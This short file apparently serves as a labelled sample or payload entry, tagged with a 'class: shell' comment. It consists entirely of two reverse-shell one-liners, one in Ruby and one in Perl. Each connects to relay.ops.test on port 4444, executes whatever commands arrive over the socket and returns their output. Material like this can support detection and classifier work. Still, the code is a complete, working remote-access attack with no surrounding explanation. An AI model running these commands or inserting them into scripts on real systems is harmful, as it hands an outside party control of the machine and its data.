# class: shell; possible: low medium
command -v ruby >/dev/null && exec ruby -rsocket -e 's = TCPSocket.new("relay.ops.test", 4444); while (l = s.gets); break if l.strip == "exit"; IO.popen(l, err: [:child, :out]) { |p| s.write p.read } rescue s.puts $!; end'
exec perl -MIO::Socket -e '$s = IO::Socket::INET->new("relay.ops.test:4444"); while (<$s>) { chomp; last if $_ eq "exit"; print $s `$_ 2>&1`; }'
